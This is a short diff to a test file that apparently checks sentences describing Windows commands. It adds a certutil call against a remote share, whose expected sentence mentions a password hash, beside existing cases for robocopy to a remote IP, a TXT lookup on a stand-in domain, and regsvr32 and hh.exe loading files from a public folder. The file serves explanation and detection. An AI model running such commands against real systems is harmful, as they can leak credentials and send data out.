@@ -69,6 +69,7 @@ describe("a sentence", () => {
   it.each([
     ["nslookup -q=txt kit.example.net", /: the address kit\.example\.net\. It takes what kit\.example\.net answers/],
     ["robocopy C:\\Users\\Public \\\\198.51.100.7\\s", /copies a folder: the folder C:\\Users\\Public/],
+    ["certutil -syncwithWU \\\\192.0.2.8\\x", /the password hash: the share \\\\192\.0\.2\.8\\x/],
     ["wab.exe", /names for contacts: the registry entry HKLM/],
     ["hh.exe C:\\Users\\Public\\x.chm", /It opens the file C:\\Users\\Public\\x\.chm from a folder/],
     ["regsvr32 C:\\Users\\Public\\x.dll", /It loads the library C:\\Users\\Public\\x\.dll from a folder/],
